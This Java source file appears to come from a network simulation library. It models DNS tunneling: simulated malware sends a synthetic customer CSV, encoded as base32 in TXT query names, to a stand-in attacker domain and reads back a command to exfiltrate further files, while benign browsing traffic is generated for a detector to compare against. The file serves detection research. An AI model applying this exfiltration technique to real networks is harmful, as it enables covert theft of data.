package org.wirewise.model.dns;

import java.net.InetAddress;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.random.RandomGenerator;
import org.wirewise.model.net.Host;
import org.wirewise.model.net.HostNode;
import org.wirewise.model.net.Network;
import org.wirewise.model.net.RouterNode;

/**
 * DNS tunneling on the network: malware on an office laptop, whose only way out is the office's
 * recursive resolver, sends a file as base32 in the names of TXT queries for the attacker's domain;
 * the resolver, doing its job, asks the attacker's name server, which reads the data out of the
 * names and answers with its command in TXT. Meanwhile the laptop's browser looks up ordinary
 * names under example.com., the workload a detector compares against.
 */
final class Tunneling {

    static final String LAPTOP = "laptop";
    static final String RESOLVER = "resolver";
    static final String AUTH = "auth";
    static final String TUNNEL = "tunnel";
    static final String LAPTOP_IP = "172.16.0.20";
    static final String RESOLVER_IP = "198.51.100.53";
    static final String TUNNEL_IP = "203.0.113.53";
    static final String DOMAIN = "tunnel.example.net.";
    /** What the attacker's server sends back, a piece per answer. */
    static final String COMMAND = "sleep 3600; then send /srv/backup/customers.csv the same way";
    /** The browser's page loads: each asks for these names' A and AAAA records. */
    static final List<String> PAGE = List.of("www.example.com", "shop.example.com");
    static final long PAGE_EVERY = 1_500_000_000L;
    static final int PAGES = 4;

    final Network network;
    final TunnelServer tunnel;
    final TunnelCodec codec = new TunnelCodec(DOMAIN);
    final byte[] file;
    /** The command as the laptop reassembled it from the answers. */
    private final StringBuilder commandHeard = new StringBuilder();
    private final DnsClient stub;
    private final InetAddress resolverIp = Host.literal(RESOLVER_IP);

    Tunneling(long seed, int fileBytes) {
        network = new Network(seed);
        RouterNode internet = network.router("internet");
        HostNode laptop = AttackHosts.attach(network, internet, LAPTOP, LAPTOP_IP, 0.5);
        HostNode resolverHost = AttackHosts.attach(network, internet, RESOLVER, RESOLVER_IP, 0.5);
        HostNode auth = AttackHosts.attach(network, internet, AUTH, Zones.EXAMPLE_SERVER, 15);
        HostNode attacker = AttackHosts.attach(network, internet, TUNNEL, TUNNEL_IP, 20);
        new AuthoritativeServer(auth, Zones.example(), DnsObserver.NONE).start();
        tunnel = new TunnelServer(attacker, codec, COMMAND);
        tunnel.start();
        RecursiveResolver resolver = new RecursiveResolver(resolverHost, RecursiveResolver.rootHint(),
                DnsObserver.NONE);
        // the resolver has resolved both domains before: it knows their servers, so each query is one hop
        List<ResourceRecord> known = new ArrayList<>(Zones.com().records().stream()
                .filter(x -> DnsName.isWithin(x.name(), "example.com.")).toList());
        known.add(ResourceRecord.in(DOMAIN, RecordType.NS, 86_400, new Rdata.Target("ns." + DOMAIN)));
        known.add(ResourceRecord.in("ns." + DOMAIN, RecordType.A, 86_400, Rdata.Address.of(TUNNEL_IP)));
        resolver.cache().put(known, 0);
        resolver.start();
        stub = new DnsClient(laptop, DnsObserver.NONE);
        file = file(network.stream("tunnel-file"), fileBytes);
    }

    /** A CSV of made-up customers, {@code size} bytes: what the malware carries out. */
    private static byte[] file(RandomGenerator random, int size) {
        StringBuilder csv = new StringBuilder("id,name,card\n");
        for (int row = 1; csv.length() < size; row++) {
            csv.append(row).append(",customer").append(row).append(',');
            for (int d = 0; d < 16; d++) {
                csv.append(random.nextInt(10));
            }
            csv.append('\n');
        }
        return csv.substring(0, size).getBytes(StandardCharsets.US_ASCII);
    }

    /** Starts the tunnel: one query at a time, the next as soon as an answer comes back. */
    void startTunnel() {
        send(codec.names(file), 0);
    }

    private void send(List<String> names, int i) {
        if (i == names.size()) {
            return;
        }
        DnsMessage.Question q = new DnsMessage.Question(names.get(i), RecordType.TXT);
        stub.ask(resolverIp, DnsMessage.query(stub.nextId(), q, true, RecursiveResolver.EDNS_SIZE), reply -> {
            reply.message().answers().stream().filter(r -> r.type() == RecordType.TXT).forEach(r ->
                    ((Rdata.Txt) r.data()).strings().forEach(s -> commandHeard.append(
                            new String(Base32.decode(s), StandardCharsets.US_ASCII))));
            send(names, i + 1);
        });
    }

    /** The browser: a page load every {@link #PAGE_EVERY}, each name's A and AAAA. */
    void startBrowsing() {
        for (int p = 0; p < PAGES; p++) {
            long at = p * PAGE_EVERY + PAGE_EVERY / 3;
            for (String name : PAGE) {
                for (RecordType type : List.of(RecordType.A, RecordType.AAAA)) {
                    network.simulation().schedule(at, () -> stub.ask(resolverIp, DnsMessage.query(stub.nextId(),
                            new DnsMessage.Question(name, type), true, RecursiveResolver.EDNS_SIZE), r -> { }));
                }
            }
        }
    }

    String commandHeard() {
        return commandHeard.toString();
    }

    void run() {
        network.simulation().run();
    }
}
